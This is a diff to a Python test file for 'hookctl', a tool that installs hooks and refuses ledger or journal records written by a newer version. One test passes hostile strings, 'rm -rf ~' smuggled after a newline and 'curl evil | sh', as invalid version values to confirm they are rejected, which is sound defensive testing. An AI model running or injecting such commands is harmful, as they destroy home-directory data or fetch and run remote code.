@@ -17,7 +17,6 @@ from hookctl.model import Entry, PackRecord, Record, Wish
 from tests import plain
 from tests.conftest import Hookctl, put
 
-FIXTURE = Path(__file__).parent / "fixtures" / "ledger-v1.json"
 SCHEMA = json.loads((Path(__file__).parents[1] / "schemas" / "ledger.schema.json").read_text())
 HANDLER = {"type": "command", "command": ": hookctl=guard/stop; exit 0", "timeout": 10}
 ENTRIES = (
@@ -29,7 +28,8 @@ ENTRIES = (
     Entry(("hooks",), "container"),
     Entry(("hooks", "Stop"), "container"),
 )
-PACK = PackRecord("1.0", {"mode": "off", "knobs": {"latch": False}}, "/data/guard", {"hook.py": "0" * 64, "c": ""})
+FILES = {"hook.py": "0" * 64, "c": ""}
+PACK = PackRecord("1.0", {"mode": "off", "knobs": {"latch": False}}, "/data/guard", FILES, "/p/pack.toml", "a" * 64)
 RECORDS = [
     Record("claude", "user", "json"),
     Record("claude", "user", "json", True, ("/a/b", "/a"), {"guard": PACK, "x": PackRecord("", {})}, "", "f" * 64),
@@ -56,23 +56,6 @@ def test_no_ledger_is_an_empty_one(tmp_path: Path) -> None:
     assert ledger.load(str(tmp_path / "no" / "ledger.json")) == {}
 
 
-def test_a_ledger_of_the_first_version_still_loads(tmp_path: Path) -> None:
-    """This file is never changed: it is what the first release wrote."""
-    valid(FIXTURE.read_bytes())
-    pages = ledger.load(str(FIXTURE))
-    page = pages["/home/u/.claude/settings.json"]
-    assert (page.host, page.scope, page.created_file, page.sha256_before[:4]) == ("claude", "user", False, "6aeb")
-    assert page.packs["guard"].settings["knobs"] == {"max_stop_blocks": 12}
-    assert [(entry.kind, entry.mode, entry.before, entry.id) for entry in page.entries] == [
-        ("element", "owned", None, "guard/stop"),
-        ("leaf", "owned", '"7"', ""),
-        ("leaf", "adopted", None, ""),
-        ("container", "owned", None, ""),
-    ]
-    assert page.entries[1].owners == {"guard": Wish("12", "0.1.0")}
-    assert ledger.dump(pages) == FIXTURE.read_bytes()
-
-
 @pytest.mark.parametrize(
     "commands",
     [
@@ -91,13 +74,39 @@ def test_what_is_written_is_valid(commands: list[list[str]], hookctl: Hookctl, s
 
 
 def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, settings: Path) -> None:
-    path = put(Path(folders.here().ledger), b'{"ledger_version": 2, "anything": []}')
+    text = b'{"ledger_version": 3, "needs": "0.9.1", "anything": []}'
+    path = put(Path(folders.here().ledger), text)
     for command in (["install", "--host", "claude"], ["uninstall", "--host", "claude"], ["status"]):
         outcome = hookctl(*command, "--json")
-        assert (outcome.code, outcome.result["errors"][0]["code"]) == (4, "ledger_newer")
-        assert "newer hookctl" in outcome.result["errors"][0]["hint"]
-    assert path.read_bytes() == b'{"ledger_version": 2, "anything": []}'
+        error = outcome.result["errors"][0]
+        assert (outcome.code, error["code"]) == (4, "ledger_newer")
+        assert error["message"] == "hookctl 0.9.1 or later is needed to read this record"
+        assert error["hint"] == "Upgrade to hookctl 0.9.1 or later."
+    assert path.read_bytes() == text
     assert not settings.exists()
+
+
+@pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
+@pytest.mark.parametrize("name", ["ledger", "journal"])
+def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
+    own = folders.here()
+    put(Path(own.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
+    with pytest.raises(HookctlError) as caught:
+        ledger.load(own.ledger) if name == "ledger" else apply.pending(own)
+    assert (caught.value.code, caught.value.message) == (
+        "ledger_newer", "a later hookctl is needed to read this record"
+    )  # fmt: skip
+
+
+def test_it_says_under_which_home_it_was_written_and_goes_on_saying_so(
+    hookctl: Hookctl, isolated: Path, settings: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert hookctl("install", "--host", "claude").code == 0
+    home = ledger.read(folders.here().ledger).home
+    assert home == str((isolated / "home").resolve())
+    monkeypatch.setenv("HOME", str(isolated / "elsewhere"))
+    assert hookctl("install", "--host", "claude", "--scope", "user").code == 0
+    assert ledger.read(folders.here().ledger).home == home
 
 
 @pytest.mark.parametrize("version", [True, 0, -1, "1", 1.0, None])
@@ -128,7 +137,7 @@ def test_a_path_that_is_none_is_refused(path: Any, number: int, tmp_path: Path) 
     assert caught.value.code == "ledger_unreadable"
 
 
-PAGE = json.loads(ledger.dump({"/x": RECORDS[2]}))
+PAGE = json.loads(ledger.dump({"/x": RECORDS[2]}, "/home/u"))
 WRONG: list[Any] = [None, 0, True, "x", [], {}, [1], {"a": 1}, ["x"]]
 
 
